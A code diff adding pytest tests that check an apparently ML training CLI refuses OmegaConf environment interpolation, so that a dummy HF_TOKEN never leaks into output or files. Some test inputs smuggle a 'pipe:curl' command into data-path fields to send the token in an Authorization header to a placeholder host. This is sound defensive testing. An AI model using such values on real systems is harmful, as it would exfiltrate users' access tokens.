@@ -114,3 +114,90 @@ def test_the_commands_that_read_data_write_and_print_no_secret(run, sources, sou
     assert len(list((tmp_path / "curated").glob("*.tar"))) == 1
     assert len(list((tmp_path / "reinforced").glob("*.tar"))) == 1
     assert_no_secret(capsys, tmp_path)
+
+
+# ------------------------------------------------------------------------- no interpolation in a config
+ENV_SECRET = "HFTOKENk1l2"
+
+
+def _interpolating_config(tmp_path, section="track:\n  run_name: ${oc.env:HF_TOKEN}\n"):
+    config = tmp_path / "colleague.yaml"
+    config.write_text((ROOT / "configs" / "tiny.yaml").read_text() + section)
+    return config
+
+
+def _one_error_naming(capsys, key):
+    seen = capsys.readouterr()
+    err = seen.err.strip().splitlines()
+    assert len(err) == 1 and err[0].startswith("mmcl: error: ") and key in err[0], err
+    assert ENV_SECRET not in seen.out + seen.err
+    return err[0]
+
+
+@pytest.mark.parametrize("section,key", [
+    ("track:\n  run_name: ${oc.env:HF_TOKEN}\n", "track.run_name"),
+    ("track:\n  run_name: run-${oc.env:HF_TOKEN,none}\n", "track.run_name"),
+    ("eval:\n  retrieval: [data/a.tar, 'pipe:curl -H \"Authorization: ${oc.env:HF_TOKEN}\" x']\n", "eval.retrieval.1"),
+    ("track:\n  run_name: ${train.output_dir}\n", "track.run_name"),
+])
+def test_a_config_file_never_interpolates(small_demo, tmp_path, capsys, monkeypatch, section, key):
+    """A colleague's YAML asking OmegaConf for the environment (or any interpolation) is one line naming the key:
+    --print-config prints no secret, and a run writes nothing (no config.yaml, no tracker)."""
+    from mmcl.cli import main
+
+    monkeypatch.setenv("HF_TOKEN", ENV_SECRET)
+    config = _interpolating_config(tmp_path, section)
+    out = tmp_path / "run"
+    args = ["train", "--config", str(config), f"data.train={small_demo['train']}", f"train.output_dir={out}",
+            "eval.zeroshot=null", "train.steps=2", "train.log_with=[tensorboard]", "train.progress=false"]
+    assert main([*args, "--print-config"]) == 2
+    _one_error_naming(capsys, key)
+    assert main(args) == 2
+    _one_error_naming(capsys, key)
+    assert not out.exists()
+
+
+@pytest.mark.parametrize("override", ["track.run_name=${oc.env:HF_TOKEN}", "eval.retrieval=[a, '${oc.env:HF_TOKEN}']",
+                                      "data.train=pipe:curl -H 'Authorization: ${oc.env:HF_TOKEN}' x"])
+def test_an_override_never_interpolates(small_demo, tmp_path, capsys, monkeypatch, override):
+    from mmcl.cli import main
+
+    monkeypatch.setenv("HF_TOKEN", ENV_SECRET)
+    assert main(["train", "--config", str(ROOT / "configs" / "tiny.yaml"), f"train.output_dir={tmp_path / 'r'}",
+                 f"data.train={small_demo['train']}", override, "--print-config"]) == 2
+    _one_error_naming(capsys, override.split("=")[0])
+
+
+def test_from_open_clip_writes_no_interpolation(tmp_path, capsys, monkeypatch):
+    from mmcl.cli import main
+
+    monkeypatch.setenv("HF_TOKEN", ENV_SECRET)
+    out = tmp_path / "c.yaml"
+    assert main(["from-open-clip", "--out", str(out), "--", "--train-data", "data/{000..009}.tar",
+                 "--name", "${oc.env:HF_TOKEN}"]) == 2
+    _one_error_naming(capsys, "train.output_dir")
+    assert not out.exists()
+
+
+def test_a_run_folders_config_yaml_is_never_interpolated(small_demo, tmp_path, capsys, monkeypatch):
+    """A run's config.yaml read back as a --config is one line naming the key; an export of a step (its
+    architecture recorded beside it) and a resume that compares it with the new config print and write no secret."""
+    from mmcl.cli import main
+
+    from helpers import short_run
+
+    run = tmp_path / "run"
+    assert main(short_run(small_demo, run)) == 0
+    capsys.readouterr()
+    monkeypatch.setenv("HF_TOKEN", ENV_SECRET)
+    saved = run / "config.yaml"
+    saved.write_text(saved.read_text().replace("run_name: null", "run_name: ${oc.env:HF_TOKEN}"))
+    assert "${oc.env:HF_TOKEN}" in saved.read_text()
+    assert main(["train", "--config", str(saved), "--print-config"]) == 2
+    _one_error_naming(capsys, "track.run_name")
+    step = sorted((run / "checkpoints").glob("step-*"))[-1]
+    assert main(["export", "--model", str(step), "--format", "open_clip", "--out", str(tmp_path / "export")]) == 0
+    assert main(short_run(small_demo, run, "train.steps=3")) == 0
+    seen = capsys.readouterr()
+    assert ENV_SECRET not in seen.out + seen.err
+    assert not [p for p in tmp_path.rglob("*") if p.is_file() and ENV_SECRET.encode() in p.read_bytes()]
